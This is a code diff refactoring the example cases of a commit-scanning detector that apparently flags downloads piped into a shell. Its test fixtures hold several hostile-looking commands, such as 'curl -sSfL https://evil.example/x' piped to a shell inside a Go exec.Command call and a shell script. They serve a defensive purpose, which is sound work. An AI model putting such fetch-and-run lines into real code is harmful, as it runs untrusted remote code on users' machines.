@@ -1,7 +1,7 @@
 import { z } from "zod";
 import { defineDetector, type Signal } from "../../model/detector.ts";
 import type { CommitEvidence, FileChange, Line } from "../../model/evidence.ts";
-import { aCommit, aFile } from "../../model/examples.ts";
+import { aChange, aCommit, aFile } from "../../model/examples.ts";
 import { addedSinks } from "../../text/added-sinks.ts";
 import { STARTS_PROCESS, TALKS } from "../../text/calls.ts";
 import { clip } from "../../text/clip.ts";
@@ -50,21 +50,14 @@ export default defineDetector({
     flags: [
       {
         name: "a start function of a program that pipes a download to a shell",
-        commit: aCommit({
-          files: [
-            aFile({
-              path: "scripts/check/main.go",
-              added: `	_ = exec.Command("bash", "-c", "curl -sSfL https://evil.example/x ${PIPE}").Run()`,
-              at: 20,
-            }),
-          ],
-        }),
+        commit: aChange(
+          "scripts/check/main.go",
+          `	_ = exec.Command("bash", "-c", "curl -sSfL https://evil.example/x ${PIPE}").Run()`,
+        ),
       },
       {
         name: "a script of the repository that runs what an unknown host hands out",
-        commit: aCommit({
-          files: [aFile({ path: "version.sh", added: `curl -sSfL https://evil.example/x ${PIPE}`, at: 2 })],
-        }),
+        commit: aChange("version.sh", `curl -sSfL https://evil.example/x ${PIPE}`),
       },
       {
         name: "text from the network run as code",
@@ -99,27 +92,15 @@ export default defineDetector({
     passes: [
       {
         name: "a manual that tells people to do so",
-        commit: aCommit({
-          files: [aFile({ path: "README.md", added: `curl https://evil.example/install.sh ${PIPE}`, at: 9 })],
-        }),
+        commit: aChange("README.md", `curl https://evil.example/install.sh ${PIPE}`),
       },
       {
         name: "a download that is only unpacked",
-        commit: aCommit({
-          files: [aFile({ path: "scripts/fetch.sh", added: "curl -L https://evil.example/data.tgz | tar xz", at: 9 })],
-        }),
+        commit: aChange("scripts/fetch.sh", "curl -L https://evil.example/data.tgz | tar xz"),
       },
       {
         name: "a message that tells people to do so",
-        commit: aCommit({
-          files: [
-            aFile({
-              path: "src/hint.ts",
-              added: `console.log("curl https://evil.example/install.sh ${PIPE}");`,
-              at: 9,
-            }),
-          ],
-        }),
+        commit: aChange("src/hint.ts", `console.log("curl https://evil.example/install.sh ${PIPE}");`),
       },
     ],
   },
